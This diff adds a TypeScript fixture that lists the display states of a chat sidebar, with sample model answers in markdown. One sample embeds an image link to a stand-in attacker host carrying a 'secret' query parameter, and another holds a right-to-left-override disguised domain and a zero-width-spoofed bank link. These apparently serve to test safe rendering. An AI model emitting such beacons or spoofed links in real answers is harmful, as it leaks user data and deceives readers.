@@ -1,0 +1,160 @@
+import type { Answer, AnswerBlock, ChatSnapshot, Turn } from '../../src/protocol/chat';
+import { emptySnapshot } from './chatHost';
+
+const model = 'Qwen/Qwen3-Coder-30B-A3B-Instruct';
+const askedAt = Date.UTC(2026, 10, 20, 12, 4);
+
+export function turn(question: string, answer: Partial<Answer>, id = question): Turn {
+  return { id, question, askedAt, answer: { state: 'done', model, blocks: [], ...answer } };
+}
+
+const text = (value: string): AnswerBlock => ({ kind: 'text', text: value });
+
+const loops = `It allocates a string per byte. Compare the two:
+
+\`\`\`ts
+// counts lines in place
+for (const byte of chunk) {
+  if (byte === 0x0a) lines++;
+}
+\`\`\`
+
+- no slice, no decode
+- one comparison per byte
+
+See [the notes](https://v8.dev/blog/fast-properties) or https://example.com/loops for more.`;
+
+const rich = `# What changed
+
+A **rate limit** counts \`tokens\` per minute. ![chart](https://evil.example/p.png?d=secret) It is shared by all keys.
+
+| limit | kind | per minute |
+|:------|:----:|-----------:|
+| RPM | requests | 1,000 |
+| TPM | tokens | 50,000 |
+
+1. Wait for the *minute* to pass
+2. Ask with fewer tokens
+   - a shorter prompt
+   - a smaller \`max_tokens\`
+
+> A quote, as the service words it.
+
+\`\`\`python
+def merge(a: list[int], b: list[int]) -> list[int]:
+    """Merges two sorted lists."""
+    result, i = [], 0
+    return sorted(a + b)  # 2 lines too long for a narrow sidebar, so it scrolls by itself
+\`\`\`
+
+---
+
+\`\`\`
+plain text
+\`\`\``;
+
+const foreign = `## كيف يعمل الحد؟
+
+هذا نص عربي مع كلمة English في الوسط و\`code\`.
+
+- عنصر أول
+- عنصر ثانٍ
+
+这是一个没有空格的很长的中文段落，用来检查换行是否正确，以及标点符号是否会出现在行首。
+
+\`averyveryverylongidentifierwithoutanyspacetobreakatwhichwouldpushthelayoutwide\` and https://example.com/a/very/long/path/without/any/space/that/would/push/the/layout/wide/index.html
+
+| کلمه | ${'wide cell without end '.repeat(8)} |
+|---|---|
+| a | b |
+
+Paid to \u202Egro.live\u202C today. [bank\u200B.example](https://other.example/x) 😀🎉`;
+
+const rateLimit = {
+  kind: 'rateLimit',
+  title: 'Tokens per minute used up for this model',
+  detail: 'The service counts tokens over the last minute. It answers again in about 23 s.',
+  actions: [
+    { id: 'retry', label: 'Try again' },
+    { id: 'chooseModel', label: 'Choose another model' },
+    { id: 'showExchange:7', label: 'Show exchange' },
+  ],
+};
+
+const done: Partial<Answer> = {
+  stopReason: 'end_turn',
+  usage: { inputTokens: 1310, outputTokens: 214 },
+  firstTokenMs: 412,
+  totalMs: 3920,
+};
+
+/** Every state the page can be in, by name. */
+export const chatStates: Readonly<Record<string, ChatSnapshot | 'never'>> = {
+  loading: 'never',
+  signedOut: emptySnapshot({ account: 'signedOut', models: [], modelsState: 'unknown' }),
+  empty: emptySnapshot(),
+  talk: emptySnapshot({
+    turns: [
+      turn('Why is the second loop slower?', {
+        ...done,
+        blocks: [{ kind: 'thinking', text: 'The first decodes.\nThe second does not.' }, text(loops)],
+      }),
+    ],
+    draft: 'And in Rust?',
+  }),
+  rich: emptySnapshot({
+    turns: [turn('Explain the limits', { ...done, stopReason: 'max_tokens', blocks: [text(rich)] })],
+  }),
+  foreign: emptySnapshot({
+    turns: [
+      turn('ما هو حد المعدل؟', {
+        ...done,
+        model: `vendor/${'a-very-long-model-name-'.repeat(9)}`,
+        blocks: [text(foreign)],
+      }),
+    ],
+    model: `vendor/${'a-very-long-model-name-'.repeat(9)}`,
+  }),
+  waiting: emptySnapshot({ turns: [turn('Why is the second loop slower?', { state: 'waiting' })] }),
+  streaming: emptySnapshot({
+    turns: [
+      turn('Why is the second loop slower?', {
+        state: 'streaming',
+        blocks: [{ kind: 'thinking', text: 'Hm.' }, text(loops.slice(0, 120))],
+      }),
+    ],
+    draft: 'Next question',
+  }),
+  failed: emptySnapshot({
+    turns: [
+      turn('Why is the second loop slower?', { ...done, blocks: [text('It allocates a string per byte.')] }),
+      turn('Then why is it used?', { state: 'failed', blocks: [text('Because it is shorter to')], error: rateLimit }),
+    ],
+  }),
+  interrupted: emptySnapshot({
+    turns: [
+      turn('Which tool is it?', {
+        ...done,
+        stopReason: 'tool_use',
+        blocks: [text('I look it up.'), { kind: 'toolUse', name: 'get_weather', text: '{\n  "city": "Paris"\n}' }],
+      }),
+      turn('Stop here', { ...done, state: 'stopped', blocks: [text('One, two,')] }),
+      turn('And now?', { state: 'interrupted', blocks: [text('Half an ans')] }),
+    ],
+  }),
+  modelsFailed: emptySnapshot({
+    models: [],
+    modelsState: 'failed',
+    modelsError: {
+      kind: 'network',
+      title: 'The service could not be reached',
+      detail: 'api.siliconflow.com was not found. Check the connection, or the proxy in the settings.',
+      actions: [{ id: 'proxySetting', label: 'Open the proxy setting' }],
+    },
+  }),
+  noModels: emptySnapshot({ models: [] }),
+  signedOutTalk: emptySnapshot({
+    account: 'signedOut',
+    turns: [turn('Why is the second loop slower?', { ...done, blocks: [text('It allocates a string per byte.')] })],
+  }),
+};
